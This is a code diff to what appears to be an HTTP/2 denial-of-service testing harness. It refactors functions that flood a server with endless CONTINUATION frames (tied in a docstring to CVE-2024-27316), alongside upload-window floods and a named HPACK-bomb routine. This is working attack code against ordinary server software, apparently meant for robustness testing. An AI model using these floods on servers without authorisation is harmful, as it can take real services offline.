@@ -175,7 +175,7 @@ def on_upload(target: H2Target, piece: bytes, weight: int, most: int = 1000) -> 
         windows.clear()
         windows[1] = Windows()
         windows[1].open(1)
-        raw.send(post(1, b"/echo"))
+        raw.send(post(1, b"/swallow"))
 
     def burst(raw: RawH2, _turn: int) -> tuple[bytes, int]:
         found = windows[1]
@@ -203,16 +203,20 @@ def padding(target: H2Target) -> None:
 # --- field sections
 
 
+def begin_section(raw: RawH2) -> None:
+    """Send the first frame of a section; nothing may come between, no acknowledgement either."""
+    raw.answers = False
+    raw.send(h2.headers(1, b"\x82", last=False))
+
+
 def continuations(target: H2Target) -> None:
     """A section without an end, in frames of an octet (CVE-2024-27316)."""
-    begin = h2.headers(1, b"\x82", last=False)
-    target.storm(same(h2.continuation(1, b"\x82")), begin=lambda raw: raw.send(begin))
+    target.storm(same(h2.continuation(1, b"\x82")), begin=begin_section)
 
 
 def large_continuations(target: H2Target) -> None:
     """A section without an end, in frames as large as may be."""
-    begin = h2.headers(1, b"\x82", last=False)
-    target.storm(same(h2.continuation(1, b"\x82" * 16_384)), begin=lambda raw: raw.send(begin))
+    target.storm(same(h2.continuation(1, b"\x82" * 16_384)), begin=begin_section)
 
 
 def hpack_bombs(target: H2Target) -> None:
